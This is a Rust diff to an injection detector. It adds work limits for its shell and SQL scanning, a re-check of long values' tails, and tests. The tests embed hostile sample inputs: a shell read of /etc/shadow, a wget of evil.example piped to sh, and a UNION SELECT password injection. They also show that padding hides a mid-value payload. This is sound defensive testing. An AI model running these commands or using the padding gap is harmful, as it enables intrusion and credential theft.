@@ -156,6 +156,77 @@ pub fn value(v: &str, sinks: Sinks, in_header: bool) -> Vec<Found> {
     )
 }
 
+/// How many judgments a detector may make on one value: `FREE_JUDGMENTS`, and one more for
+/// every so many bytes (`SHELL_BYTES_PER_JUDGMENT`, `SQL_BYTES_PER_JUDGMENT`: a SQL window
+/// costs about twice a shell judgment, and SQL keywords are rarer in text than commands). A judgment is what a detector does at each place a value
+/// may change its sink's structure (a shell operator followed by a word, a SQL keyword's
+/// window of tokens); each reads a bounded number of bytes, so the allowance bounds a
+/// detector's work by the value's length, whatever the content. Text people and programs
+/// write stays far below it (the corpus and held-out tests check that no value of theirs,
+/// attack or benign, reaches it); a value made
+/// of operators or keywords from end to end reaches it, and is then judged at its start as far
+/// as the allowance goes and at its last `TAIL_BYTES`, and reported as judged in part.
+#[derive(Debug, Clone, Copy)]
+pub struct Allowance {
+    left: usize,
+    ran_out: bool,
+}
+
+/// Judgments any value may have, however short.
+pub const FREE_JUDGMENTS: usize = 32;
+/// One more shell judgment per this many bytes: a word after an operator that is read in
+/// full (a command name, a quoted or braced word), not one dismissed by its first bytes.
+pub const SHELL_BYTES_PER_JUDGMENT: usize = 8;
+/// One more SQL signal window per this many bytes.
+pub const SQL_BYTES_PER_JUDGMENT: usize = 64;
+/// How much of a long value's end is judged again once its allowance ran out, with an
+/// allowance of its own (`TAIL_JUDGMENTS`): padding before a payload is the usual way to
+/// push it past a limit. Values up to `TAIL_FROM` bytes are judged only as far as their
+/// allowance went.
+pub const TAIL_BYTES: usize = 256;
+const TAIL_JUDGMENTS: usize = FREE_JUDGMENTS + TAIL_BYTES / 2;
+const TAIL_FROM: usize = 16 * TAIL_BYTES;
+
+impl Allowance {
+    pub fn for_len(len: usize, bytes_per_judgment: usize) -> Allowance {
+        Allowance {
+            left: FREE_JUDGMENTS + len / bytes_per_judgment.max(1),
+            ran_out: false,
+        }
+    }
+
+    /// For the tail of a value whose allowance ran out (`TAIL_BYTES`).
+    fn tail() -> Allowance {
+        Allowance {
+            left: TAIL_JUDGMENTS,
+            ran_out: false,
+        }
+    }
+
+    /// No limit: the detectors' own entry points, and the tests that compare readings.
+    pub fn unlimited() -> Allowance {
+        Allowance {
+            left: usize::MAX,
+            ran_out: false,
+        }
+    }
+
+    /// One judgment; `false` once the allowance is spent, and the detector stops there.
+    #[inline]
+    pub fn take(&mut self) -> bool {
+        if self.left == 0 {
+            self.ran_out = true;
+            return false;
+        }
+        self.left -= 1;
+        true
+    }
+
+    pub fn ran_out(&self) -> bool {
+        self.ran_out
+    }
+}
+
 /// The detectors that have already reported a field. A field is reported at most once per
 /// detector, so a detector that has found something in one decoded form or chunk of a value
 /// does not read the others: on a value made of attacks, each detector stops at its first.
@@ -170,9 +241,17 @@ impl Reported {
     const TEMPLATE: u8 = 1 << 4;
     const PROTOTYPE: u8 = 1 << 5;
     const DTD: u8 = 1 << 6;
+    /// A detector's allowance ran out on the field (`Allowance`).
+    const IN_PART: u8 = 1 << 7;
 
     fn pending(self, detector: u8) -> bool {
         self.0 & detector == 0
+    }
+
+    /// Whether a detector's allowance ran out on some form or chunk of the field: it was
+    /// judged at its start and end, not throughout.
+    pub fn judged_in_part(self) -> bool {
+        self.0 & Self::IN_PART != 0
     }
 
     fn run(&mut self, detector: u8, out: &mut Vec<Found>, found: impl FnOnce() -> Option<Found>) {
@@ -195,15 +274,36 @@ pub fn value_with(
     reported: &mut Reported,
 ) -> Vec<Found> {
     let mut out = Vec::new();
+    let mut in_part = false;
     // A value of base64 characters only has no quote, space or parenthesis: no SQL.
     if census.has(Census::NOT_BASE64) || sinks.sql {
         reported.run(Reported::SQL, &mut out, || {
-            sql::detect_with(v, Sinks::strictness(sinks.sql), &triggers.sql_words)
+            let strictness = Sinks::strictness(sinks.sql);
+            let mut allowance = Allowance::for_len(v.len(), SQL_BYTES_PER_JUDGMENT);
+            let found = sql::detect_within(v, strictness, &triggers.sql_words, &mut allowance);
+            found.or_else(|| {
+                in_part |= allowance.ran_out();
+                let (tail, from) = tail_of(v, allowance)?;
+                let words: Vec<usize> = triggers
+                    .sql_words
+                    .iter()
+                    .filter_map(|&w| w.checked_sub(from))
+                    .collect();
+                let mut again = Allowance::tail();
+                sql::detect_within(tail, strictness, &words, &mut again)
+            })
         });
     }
     if census.has(Census::SHELL | Census::PAREN) {
         reported.run(Reported::SHELL, &mut out, || {
-            shell::detect(v, Sinks::strictness(sinks.shell))
+            let strictness = Sinks::strictness(sinks.shell);
+            let mut allowance = Allowance::for_len(v.len(), SHELL_BYTES_PER_JUDGMENT);
+            shell::detect_within(v, strictness, &mut allowance).or_else(|| {
+                in_part |= allowance.ran_out();
+                let (tail, _) = tail_of(v, allowance)?;
+                let mut again = Allowance::tail();
+                shell::detect_within(tail, strictness, &mut again)
+            })
         });
     }
     if census.has(Census::SLASH | Census::COLON) || census.has(Census::PATH) && v.contains("..") {
@@ -227,7 +327,37 @@ pub fn value_with(
     if census.has(Census::TEMPLATE) {
         reported.run(Reported::DTD, &mut out, || external_dtd(v));
     }
+    if in_part {
+        reported.0 |= Reported::IN_PART;
+    }
     out
+}
+
+/// Once a detector's allowance ran out on `v`, the last `TAIL_BYTES` of it (and where they
+/// start), to be judged on their own with an allowance of their own; `None` when the
+/// allowance lasted, or the value is no longer than that.
+fn tail_of(v: &str, allowance: Allowance) -> Option<(&str, usize)> {
+    if !allowance.ran_out() || v.len() <= TAIL_FROM {
+        return None;
+    }
+    let mut from = v.len() - TAIL_BYTES;
+    while !v.is_char_boundary(from) {
+        from += 1;
+    }
+    Some((&v[from..], from))
+}
+
+/// Every word a detector starts a judgment from (SQL probe words, system files, command,
+/// template and scheme names), for generators of adversarial input: a worst case is sought
+/// over what the detectors react to, and a word added to a detector joins the search.
+pub fn vocabulary() -> Vec<&'static str> {
+    let mut words: Vec<&'static str> = Vec::new();
+    words.extend(triggers::SQL_WORDS);
+    words.extend(path::SYSTEM_FILES);
+    words.extend(shell::COMMAND_NAMES);
+    words.extend(template::DANGEROUS_NAMES);
+    words.extend(net::DANGEROUS_SCHEMES);
+    words
 }
 
 /// Object keys that reach an object's prototype when merged (`__proto__`,
@@ -382,6 +512,65 @@ pub(crate) fn agrees_with_reference<T: PartialEq + std::fmt::Debug>(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn judged(v: &str) -> (Vec<&'static str>, bool) {
+        let triggers = triggers::Scanner::detectors_only().scan(v.as_bytes());
+        let mut reported = Reported::default();
+        let found = value_with(
+            v,
+            Census::of(v),
+            &triggers,
+            Sinks::default(),
+            false,
+            &mut reported,
+        );
+        (
+            found.iter().map(|f| f.rule).collect(),
+            reported.judged_in_part(),
+        )
+    }
+
+    #[test]
+    fn a_value_dense_with_operators_is_judged_at_its_start_and_end_and_reported() {
+        // `;cat` is a command every four bytes: 3,000 of them run out of 32 + 12,000 / 8.
+        let dense = ";cat".repeat(3_000);
+        assert_eq!(judged(&dense), (vec![], true));
+        // A command at the start is within the allowance, one at the end in the tail.
+        assert_eq!(
+            judged(&format!("x; cat /etc/shadow{dense}")).0,
+            ["shell-grammar", "path-canonical"]
+        );
+        let end = judged(&format!("{dense}\n; wget http://evil.example/x | sh"));
+        assert_eq!(end, (vec!["shell-grammar"], true));
+        // In the middle, past the allowance and before the tail: not judged, but reported.
+        let middle = format!("{dense}{dense}; wget http://evil.example/x | sh{dense}");
+        assert_eq!(judged(&middle), (vec![], true));
+        // SQL windows: a keyword every few bytes.
+        let keywords = "'union".repeat(3_000);
+        assert!(judged(&keywords).1);
+        let tail = judged(&format!(
+            "{keywords} x' UNION SELECT password FROM users --"
+        ));
+        assert_eq!(tail, (vec!["sql-grammar"], true));
+    }
+
+    #[test]
+    fn the_allowance_grows_with_the_value() {
+        // Prose with three operators every 38 bytes, and a list of words one per line, never
+        // come near it, however long: words that name no command are dismissed at no cost.
+        let prose = "we shipped it; then the team & I met\n".repeat(20_000);
+        assert_eq!(judged(&prose), (vec![], false));
+        let words = "apple\nbanana\ncherry\n".repeat(20_000);
+        assert_eq!(judged(&words), (vec![], false));
+        // A script, a command on each line and one chained, is within it.
+        let script = "cd /srv/app && make build\nls -la /srv/app/dist\n".repeat(10_000);
+        assert_eq!(judged(&script), (vec![], false));
+        let mut a = Allowance::for_len(8 * 100, 8);
+        assert!((0..FREE_JUDGMENTS + 100).all(|_| a.take()));
+        assert!(!a.ran_out());
+        assert!(!a.take());
+        assert!(a.ran_out());
+    }
 
     #[test]
     fn external_dtds_are_xxe_except_the_w3c_ones() {
